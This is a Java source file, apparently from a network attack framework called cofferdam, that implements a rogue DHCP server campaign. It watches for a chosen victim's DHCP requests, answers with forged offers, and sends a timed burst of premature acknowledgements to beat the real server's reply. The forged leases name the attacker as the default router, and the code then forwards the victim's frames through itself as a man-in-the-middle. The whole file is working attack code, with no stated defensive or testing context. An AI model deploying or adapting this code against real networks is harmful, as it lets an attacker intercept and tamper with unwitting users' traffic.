package cofferdam.attacks.network;

import cofferdam.attacks.Attack;
import cofferdam.monitor.address.Ipv4Address;
import cofferdam.monitor.packet.DhcpMessage;
import cofferdam.monitor.packet.DhcpMessage.Type;
import cofferdam.monitor.packet.Ipv4Packet;
import cofferdam.monitor.packet.UdpDatagram;

import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;

/**
 * One run of {@link RogueDhcp}. Who was given a lease keeps it: there is no way to take one back that
 * clients would follow.
 */
final class LeasingCampaign implements Attack.Campaign {

    private static final Ipv4Address MASK = Ipv4Address.parse("255.255.255.0");
    private static final int LEASE_SECONDS = 3600;
    private static final int TIME_TO_LIVE = 64;

    /**
     * Acknowledgements that are sent before anybody asked for one, the first after this time and each
     * next one after twice as long: whatever the cables' delay, one of them comes when the client has
     * heard an offer and not yet the true server's acknowledgement.
     */
    private static final Duration FIRST_HASTE = Duration.ofNanos(1_000);

    private static final int HASTY = 20;

    private final Foothold foothold;
    private final AddressResolution victims;
    private final Forwarder forwarder;
    private int answers;
    private boolean ready;

    LeasingCampaign(Foothold foothold) {
        this.foothold = foothold;
        victims = new AddressResolution(foothold);
        forwarder = new Forwarder(
                foothold, victims, Optional.of(foothold.victims().getLast()));
    }

    void begin() {
        foothold.listen(this::heard);
        victims.begin(() -> ready = true);
    }

    @Override
    public boolean ready() {
        return ready;
    }

    @Override
    public void stop() {
        if (stopped()) {
            return;
        }
        foothold.report("answered %d DHCP messages, forwarded %d frames"
                .formatted(answers, forwarder.forwarded()));
        foothold.close();
    }

    @Override
    public boolean stopped() {
        return foothold.closed();
    }

    private void heard(byte[] frame) {
        victims.heard(frame);
        forwarder.heard(frame);
        Ipv4Packet.inFrame(frame)
                .flatMap(UdpDatagram::inPacket)
                .filter(datagram -> datagram.targetPort() == DhcpMessage.SERVER_PORT)
                .flatMap(datagram -> DhcpMessage.read(datagram.data()))
                .filter(this::isOfVictim)
                .ifPresent(this::answer);
    }

    private boolean isOfVictim(DhcpMessage asked) {
        return victims.of(client()).equals(Optional.of(asked.clientHardware()));
    }

    private Ipv4Address client() {
        return foothold.victims().getFirst();
    }

    /**
     * A client takes the first offer, but believes any acknowledgement of its transaction: so there is
     * another race for whoever lost the first.
     */
    private void answer(DhcpMessage asked) {
        switch (asked.type()) {
            case DISCOVER -> {
                send(Type.OFFER, asked);
                for (int times = 0; times < HASTY; times++) {
                    foothold.agenda()
                            .after(
                                    FIRST_HASTE.multipliedBy(1L << times),
                                    () -> send(Type.ACK, asked));
                }
            }
            case REQUEST -> send(Type.ACK, asked);
            case OFFER, DECLINE, ACK, NAK, RELEASE, INFORM -> {}
        }
    }

    private void send(Type type, DhcpMessage asked) {
        Ipv4Address own = foothold.protocol();
        byte[] data = message(type, asked).toBytes();
        byte[] payload = new UdpDatagram(
                        DhcpMessage.SERVER_PORT, DhcpMessage.CLIENT_PORT, data)
                .toBytes(own, client());
        answers++;
        foothold.transmitter()
                .send(new Ipv4Packet(
                                own,
                                client(),
                                answers & 0xffff,
                                TIME_TO_LIVE,
                                Ipv4Packet.UDP,
                                payload)
                        .toFrame(asked.clientHardware(), foothold.hardware()));
    }

    private DhcpMessage message(Type type, DhcpMessage asked) {
        Map<Integer, byte[]> options = new TreeMap<>();
        options.put(DhcpMessage.SERVER_IDENTIFIER, DhcpMessage.value(foothold.protocol()));
        options.put(DhcpMessage.ROUTER, DhcpMessage.value(foothold.protocol()));
        options.put(DhcpMessage.SUBNET_MASK, DhcpMessage.value(MASK));
        options.put(DhcpMessage.LEASE_TIME, DhcpMessage.value(LEASE_SECONDS));
        // RFC 6842: a client's identifier comes back.
        byte[] identifier = asked.options().get(DhcpMessage.CLIENT_IDENTIFIER);
        if (identifier != null) {
            options.put(DhcpMessage.CLIENT_IDENTIFIER, identifier);
        }
        return new DhcpMessage(
                type,
                asked.transaction(),
                asked.broadcast(),
                Ipv4Address.ANY,
                client(),
                asked.clientHardware(),
                options);
    }
}
